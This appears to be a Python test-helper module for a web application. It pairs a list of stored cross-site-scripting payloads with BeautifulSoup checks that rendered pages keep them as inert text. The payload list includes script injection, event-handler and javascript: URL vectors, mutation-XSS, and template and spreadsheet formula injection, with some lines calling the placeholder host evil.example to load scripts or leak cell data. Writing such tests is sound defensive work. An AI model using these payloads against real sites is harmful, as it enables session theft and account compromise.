"""A corpus of stored-XSS payloads and the checks that they stayed inert (tests/test_stored_xss.py,
docs/security.md, "Safe content").

A payload is inert on a page when, parsed as the browser would (BeautifulSoup's html.parser),
the page has no markup that came from it: no ``<script>`` but the site's own static ones, no
``on*`` attribute anywhere, no ``javascript:``/``vbscript:``/``data:text/html`` address, no
``<iframe>``, ``<object>``, ``<embed>``, ``<base>``, ``<math>``, ``<style>``, ``srcdoc`` or
``style`` attribute, and no ``<svg>`` but the site's charts; and the payload
is there as text (so the check sees it rendered, not dropped).
"""

import json
import re

from bs4 import BeautifulSoup

PAYLOADS = [
    "<script>alert('xss-script')</script>",
    '"><script src=//evil.example/x.js></script>',
    "<img src=x onerror=alert('xss-img')>",
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus="alert(1)',
    "<a href=\"javascript:alert('xss-href')\">click</a>",
    "javascript:alert(document.cookie)",
    "<svg onload=alert('xss-svg')><circle r=9 /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x.swf"></object>',
    "</textarea></title><script>alert('xss-close')</script>",
    "{{ 7|add:7 }}{% now 'Y' %}{{ request.user.email }}",
    '[click](javascript:alert(1)) ![x](x" onerror="alert(1))',
    "<base href=//evil.example/><form action=javascript:alert(1)><button formaction=javascript:alert(1)>",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|'/c calc'!A0 @SUM(1+1)",
    '<div style="background:url(javascript:alert(1))">&lt;b&gt;&amp;</div>',
]

# What a text field's value must look like on a page: the payload as text, or a prefix of it
# when a page shortens long text.
VISIBLE_PREFIX = 12

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcset", "background"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:text/html", "data:image/svg")
FORBIDDEN_TAGS = {"iframe", "object", "embed", "base", "math", "style", "frame", "frameset", "applet", "portal"}
SITE_SVG_CLASSES = {"fw-chart", "usa-icon"}
SCRIPT_SOURCE = re.compile(
    r"^/static/(vendor/uswds/js/uswds(-init)?\.min\.js|vendor/htmx/htmx\.min\.js|js/fieldwork\.js)$"
)


def fit(payload, max_length):
    return payload if not max_length or len(payload) <= max_length else payload[:max_length]


def _clean_url(value):
    return re.sub(r"[\x00-\x20]", "", value).lower()


PAYLOAD_CODE = ("alert(", "evil.example", "x.swf")


def admin_markup_problems(html):
    """For Wagtail's admin, which has inline scripts, SVG icons and style attributes of its own:
    the markup that can only have come from a payload (its code, its elements)."""
    soup = BeautifulSoup(html, "html.parser")
    problems = []
    for tag in soup.find_all(True):
        if tag.name in {"object", "embed", "base", "math"}:
            problems.append(f"<{tag.name}> element")
        # The page editor's live preview is an iframe of the admin's own address.
        if tag.name == "iframe" and (tag.has_attr("srcdoc") or not str(tag.get("src", "/")).startswith("/")):
            problems.append("<iframe> element")
        if tag.name == "script" and tag.get("type") != "application/json":
            code = (tag.string or "") + str(tag.get("src") or "")
            if any(marker in code for marker in PAYLOAD_CODE):
                problems.append(f"<script>{code[:60]}")
        for attribute, value in tag.attrs.items():
            value = " ".join(value) if isinstance(value, list) else str(value)
            if attribute.lower().startswith("on") and any(marker in value for marker in PAYLOAD_CODE):
                problems.append(f"{attribute}= on <{tag.name}>")
            if attribute.lower() in URL_ATTRIBUTES and _clean_url(value).startswith(BAD_SCHEMES):
                problems.append(f"{attribute}={value[:40]!r} on <{tag.name}>")
    return problems


def markup_problems(html, *, admin=False):
    """Everything in ``html`` that a payload could have turned into markup (empty if inert)."""
    if admin:
        return admin_markup_problems(html)
    soup = BeautifulSoup(html, "html.parser")
    problems = []
    for tag in soup.find_all(True):
        name = tag.name.lower()
        if name in FORBIDDEN_TAGS:
            problems.append(f"<{name}> element")
        if name == "script":
            src = tag.get("src")
            if tag.get("type") == "application/json":
                try:
                    json.loads(tag.string or "null")
                except ValueError:
                    problems.append("a JSON script that is not JSON")
            elif not src or not SCRIPT_SOURCE.match(src):
                problems.append(f"<script src={src!r}>{(tag.string or '')[:40]}")
        if name == "svg" and not SITE_SVG_CLASSES & set(tag.get("class") or []):
            problems.append("an <svg> that is not the site's")
        if name == "meta" and tag.get("http-equiv"):
            problems.append("<meta http-equiv>")
        for attribute, value in tag.attrs.items():
            attribute = attribute.lower()
            value = " ".join(value) if isinstance(value, list) else str(value)
            if attribute.startswith("on"):
                problems.append(f"{attribute}= on <{name}>")
            if attribute in {"srcdoc", "style"}:
                problems.append(f"{attribute}= on <{name}>")
            if attribute in URL_ATTRIBUTES and _clean_url(value).startswith(BAD_SCHEMES):
                problems.append(f"{attribute}={value[:40]!r} on <{name}>")
    return problems


def visible_text(html):
    """The page's text, with the values of its text inputs (a form shown again, a profile)."""
    soup = BeautifulSoup(html, "html.parser")
    values = [tag.get("value", "") for tag in soup.find_all("input")]
    return " ".join(" ".join([soup.get_text(" "), *values]).split())


def json_strings(value):
    """Every string in a JSON document."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from json_strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from json_strings(item)
